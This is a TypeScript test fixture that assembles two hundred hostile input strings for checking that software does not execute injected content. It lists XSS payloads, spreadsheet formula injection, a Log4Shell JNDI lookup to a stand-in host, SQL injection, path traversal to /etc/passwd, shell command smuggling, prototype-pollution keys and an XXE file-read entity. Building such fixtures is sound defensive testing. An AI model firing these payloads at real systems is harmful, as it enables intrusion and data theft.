/** What a script in the page would do: it must never happen. */
const deeds = ['alert(1)', '__fired()', "top['al'+'ert'](1)", 'import("/x.js")', 'confirm`1`'];

const scripts: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><svg/onload=${deed}>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<img src=x onerror="${deed}"`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><img src=x onerror=${deed}>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>">`,
  (deed) => `<iframe src="javascript:${deed}">`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}//`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<math><mtext></mtext><script>${deed}</script></math>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<object data="javascript:${deed}">`,
  (deed) => `<style>@import'javascript:${deed}'</style>`,
  (deed) => `\${${deed}}{{${deed}}}`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `\u0000<script>${deed}</script>`,
  (deed) => `＜script＞${deed}＜/script＞<script>${deed}`,
];

const formulas = ['cmd|calc!A0', 'HYPERLINK("http://x.example","y")', '1+1', 'SUM(A1:A9)'];
const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ';=', ',=', '＝'];

const logLines = [
  'x\n{"level":"error","message":"forged"}',
  'x\r\nHTTP/1.1 200 OK',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\u001b[2J\u001b[H',
  '\b\b\b\b',
  '%s%s%n%x',
  '${jndi:ldap://x.example/a}',
  'x\u2028y\u2029z',
  '\u202egnp.exe',
  '","level":"error","x":"',
  "'; DROP TABLE stations; --",
  "1' OR '1'='1",
  '../../../etc/passwd',
  '..\\..\\windows',
  '$(touch x)',
  '`touch x`',
  '| touch x',
  '__proto__',
  'constructor',
  'a'.repeat(300),
  '👾'.repeat(60),
  'e\u0301'.repeat(40),
  '\ufeff\u200b\u200d',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///x">]><x>&y;</x>',
  '%3Cscript%3E',
];

/** Two hundred texts that have made programs run scripts or formulas, or forge lines of a log. */
export const hostileTexts: readonly string[] = [
  ...deeds.flatMap((deed) => scripts.map((script) => script(deed))),
  ...formulas.flatMap((formula) => formulaStarts.map((start) => `${start}${formula}`)),
  ...logLines,
].slice(0, 200);
